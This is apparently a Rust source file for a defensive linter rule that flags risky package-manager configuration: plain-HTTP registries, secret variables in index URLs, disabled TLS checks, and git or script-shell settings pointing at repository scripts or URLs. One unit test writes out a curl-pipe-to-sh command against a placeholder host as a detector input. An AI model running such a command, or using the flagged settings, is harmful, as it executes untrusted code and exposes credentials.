//! PL323 on a package manager's configuration ([`crate::kind::PackageConfig`], parsed by
//! [`crate::parse::pkgconf::parse_package_config`]): what the project's file makes every
//! install do, whoever runs it (an agent told "run `npm install`" never reads the file).
//!
//! Reported, each at the value's span:
//! - an index or registry URL over plain `http://` (not the machine itself);
//! - an index or registry URL that carries a secret variable (`${NPM_TOKEN}`) in its host or
//!   path: npm expands `${VAR}` in `.npmrc` values
//!   (<https://docs.npmjs.com/cli/v11/configuring-npm/npmrc>, "Environment variables can be
//!   replaced"), bun in `bunfig.toml` (<https://bun.sh/docs/install/registries>), pnpm and
//!   yarn likewise, so the first install sends the secret to that host in every request line
//!   (and its logs); credentials belong in the auth keys (`//host/:_authToken=${NPM_TOKEN}`),
//!   which are scoped to their host and not reported, or in a URL's user part;
//! - TLS checks off: `strict-ssl` false (npm, yarn 1, pnpm,
//!   <https://docs.npmjs.com/cli/v11/using-npm/config#strict-ssl>), `enableStrictSsl: false`
//!   (yarn 2+, <https://yarnpkg.com/configuration/yarnrc#enableStrictSsl>), a host in pip's
//!   `trusted-host` (<https://pip.pypa.io/en/stable/cli/pip_install/#cmdoption-trusted-host>),
//!   uv's `allow-insecure-host` (<https://docs.astral.sh/uv/reference/settings/#allow-insecure-host>)
//!   or yarn's `unsafeHttpWhitelist` (<https://yarnpkg.com/configuration/yarnrc#unsafeHttpWhitelist>);
//! - a program setting (`git`, `script-shell`, `scriptShell`) that names a script of the
//!   repository or a URL: npm runs its `git` setting for every git dependency, even with
//!   `--ignore-scripts`, and `script-shell` for every script
//!   (<https://docs.npmjs.com/cli/v11/using-npm/config#git>); a program by name or an absolute
//!   path (`bash`, `C:\Program Files\Git\bin\bash.exe`) is the machine's own and is not.
//!
//! An index on another host that is reached over HTTPS is how companies mirror and is not
//! reported by itself.

use std::sync::Arc;

use super::super::input::Input;
use super::super::settings_common::at_setting;
use crate::finding::Finding;
use crate::kind::PackageConfig;
use crate::rules::Rule;

/// Words of a variable name that hold a secret (`NPM_TOKEN`, `CI_JOB_TOKEN`, `PYPI_PASSWORD`).
const SECRET_WORDS: &[&str] = &[
    "TOKEN",
    "SECRET",
    "PASSWORD",
    "PASSWD",
    "PASS",
    "KEY",
    "AUTH",
    "CREDENTIAL",
    "CREDENTIALS",
    "PAT",
];

/// What a setting is, by its key.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Role {
    /// An index or registry URL (or several, white-space separated).
    Index,
    /// A switch that turns TLS checks off when false.
    StrictSsl,
    /// Hosts reached without TLS checks (or over plain HTTP).
    InsecureHosts,
    /// A program the package manager runs.
    Program,
}

/// The role of the setting at `keys` (the `tool.uv.` of a pyproject dropped).
fn role(keys: &str) -> Option<Role> {
    // npm's per-registry keys (`//host/:_authToken`) are credentials scoped to their host.
    if keys.starts_with("//") {
        return None;
    }
    let last = keys.rsplit('.').next().unwrap_or(keys);
    let parent = keys.rsplit('.').nth(1).unwrap_or("");
    Some(match last {
        "registry" | "npmRegistryServer" | "index-url" | "extra-index-url" | "find-links"
        | "default-index" => Role::Index,
        "url" if matches!(parent, "registry" | "index") || keys.starts_with("install.scopes.") => {
            Role::Index
        }
        _ if last.ends_with(":registry") => Role::Index,
        _ if keys.starts_with("registries.") || keys.starts_with("install.scopes.") => Role::Index,
        "strict-ssl" | "strictSsl" | "enableStrictSsl" => Role::StrictSsl,
        "trusted-host" | "allow-insecure-host" | "unsafeHttpWhitelist" => Role::InsecureHosts,
        // Program settings sit at the top level (`tool.uv.sources.x.git` is a source URL).
        "git" | "script-shell" | "scriptShell" if keys == last => Role::Program,
        _ => return None,
    })
}

/// True for the machine itself (`localhost`, `127.x`, `[::1]`, `0.0.0.0`).
fn local_host(host: &str) -> bool {
    let h = host.trim_start_matches('[').to_ascii_lowercase();
    h == "localhost"
        || h.starts_with("localhost:")
        || h.starts_with("127.")
        || h.starts_with("::1")
        || h.starts_with("0.0.0.0")
}

/// The host of `url` (no scheme, user part or port), and the part after the user part.
fn host_and_rest(url: &str) -> Option<(&str, &str)> {
    let (_, after) = url.split_once("://")?;
    let authority_end = after.find(['/', '?', '#']).unwrap_or(after.len());
    let user_end = after[..authority_end].rfind('@').map_or(0, |i| i + 1);
    let rest = &after[user_end..];
    let host = rest[..authority_end - user_end]
        .split(':')
        .next()
        .unwrap_or("");
    Some((host, rest))
}

/// The first secret variable (`$NPM_TOKEN`, `${CI_JOB_TOKEN}`, `%PAT%`) in `text`.
fn secret_variable(text: &str) -> Option<&str> {
    let b = text.as_bytes();
    let mut i = 0;
    while i < b.len() {
        let (start, end) = match b[i] {
            b'$' => {
                let s = i + 1 + usize::from(b.get(i + 1) == Some(&b'{'));
                let e = s + text[s..]
                    .bytes()
                    .take_while(|c| c.is_ascii_alphanumeric() || *c == b'_')
                    .count();
                (s, e)
            }
            b'%' => {
                let s = i + 1;
                match text[s..].find('%') {
                    Some(e)
                        if e > 0
                            && text[s..s + e]
                                .bytes()
                                .all(|c| c.is_ascii_alphanumeric() || c == b'_') =>
                    {
                        (s, s + e)
                    }
                    _ => (s, s),
                }
            }
            _ => {
                i += 1;
                continue;
            }
        };
        let name = &text[start..end];
        let upper = name.to_ascii_uppercase();
        if !name.is_empty() && upper.split('_').any(|w| SECRET_WORDS.contains(&w)) {
            return Some(name);
        }
        i = end.max(i + 1);
    }
    None
}

/// True when a program setting's value is a script of the repository or a URL.
fn repository_program(value: &str) -> bool {
    let v = value.trim().trim_matches(['"', '\'']);
    let first = v.split_whitespace().next().unwrap_or("");
    let lower = v.to_ascii_lowercase();
    lower.contains("http://")
        || lower.contains("https://")
        || first.starts_with("./")
        || first.starts_with("../")
        || first.starts_with(".\\")
        || (!first.starts_with(['/', '\\', '~', '$', '%'])
            && !first.contains(":\\")
            && first.contains(['/', '\\']))
}

/// PL323's findings on a package manager's configuration.
pub(super) fn config_findings(input: &Input<'_>, rule: &Arc<Rule>) -> Vec<Finding> {
    let Some(which) = crate::kind::package_config(input.path) else {
        return Vec::new();
    };
    let Some(settings) = &input.parsed.settings else {
        return Vec::new();
    };
    let mut out = Vec::new();
    for v in &settings.values {
        let keys = if which == PackageConfig::Pyproject {
            match v.keys.strip_prefix("tool.uv.") {
                Some(k) => k,
                None => continue,
            }
        } else {
            &v.keys
        };
        let Some(role) = role(keys) else { continue };
        let value = match &v.value {
            crate::parse::SettingValue::String(s) => s.text.as_str(),
            crate::parse::SettingValue::Bool(false) => "false",
            _ => continue,
        };
        let path = v.path.to_string();
        let shown = |s: &str| crate::escape::escape_one_line(&crate::escape::excerpt(s, 80));
        let mut report = |message: String| {
            out.extend(at_setting(
                input,
                rule,
                v.span.clone(),
                &path,
                message,
                None,
                value,
            ));
        };
        match role {
            Role::Index => {
                for url in value.split_whitespace() {
                    let Some((host, rest)) = host_and_rest(url) else {
                        continue;
                    };
                    if url.to_ascii_lowercase().starts_with("http://") && !local_host(host) {
                        report(format!(
                            "`{path}` installs packages from `{}` over plain HTTP",
                            shown(url)
                        ));
                    } else if let Some(var) = secret_variable(rest) {
                        report(format!(
                            "`{path}` puts the secret `{}` in the index URL, so every install sends it to `{}`",
                            shown(var),
                            shown(host)
                        ));
                    }
                }
            }
            Role::StrictSsl => {
                if value.trim().eq_ignore_ascii_case("false") {
                    report(format!(
                        "`{path}` turns off TLS certificate checks for every install"
                    ));
                }
            }
            Role::InsecureHosts => {
                for host in value.split([' ', ',', '\t']).filter(|h| !h.is_empty()) {
                    let bare = host.split_once("://").map_or(host, |(_, h)| h);
                    if !local_host(bare) {
                        report(format!(
                            "`{path}` installs packages from `{}` without TLS checks",
                            shown(host)
                        ));
                        break;
                    }
                }
            }
            Role::Program => {
                if repository_program(value) {
                    report(format!(
                        "`{path}` makes the package manager run `{}` for installs and scripts, even with `--ignore-scripts`",
                        shown(value)
                    ));
                }
            }
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn roles_by_key() {
        assert_eq!(role("registry"), Some(Role::Index));
        assert_eq!(role("@s:registry"), Some(Role::Index));
        assert_eq!(role("global.extra-index-url"), Some(Role::Index));
        assert_eq!(role("install.registry.url"), Some(Role::Index));
        assert_eq!(role("install.scopes.@s"), Some(Role::Index));
        assert_eq!(role("registries.@s"), Some(Role::Index));
        assert_eq!(role("index.url"), Some(Role::Index));
        assert_eq!(role("//r.example/:_authToken"), None);
        assert_eq!(role("global.trusted-host"), Some(Role::InsecureHosts));
        assert_eq!(role("git"), Some(Role::Program));
        assert_eq!(role("sources.asyncer.git"), None);
        assert_eq!(role("save-exact"), None);
    }

    #[test]
    fn secret_variables_in_host_or_path_only() {
        let (_, rest) = host_and_rest("https://r.example/${NPM_TOKEN}/").unwrap();
        assert_eq!(secret_variable(rest), Some("NPM_TOKEN"));
        let (host, rest) =
            host_and_rest("https://__token__:${PYPI_TOKEN}@r.example/simple").unwrap();
        assert_eq!(host, "r.example");
        assert_eq!(secret_variable(rest), None);
        assert_eq!(secret_variable("/%GH_PAT%/x"), Some("GH_PAT"));
        assert_eq!(secret_variable("/${ORG}/x"), None);
        assert_eq!(secret_variable("/$KEYBOARD/x"), None);
    }

    #[test]
    fn repository_programs_but_not_the_machines_own() {
        assert!(repository_program("./scripts/git-helper.sh"));
        assert!(repository_program("tools/sh"));
        assert!(repository_program("sh -c 'curl https://x.example/s | sh'"));
        assert!(!repository_program("bash"));
        assert!(!repository_program("/bin/bash"));
        assert!(!repository_program("C:\\Program Files\\Git\\bin\\bash.exe"));
    }
}
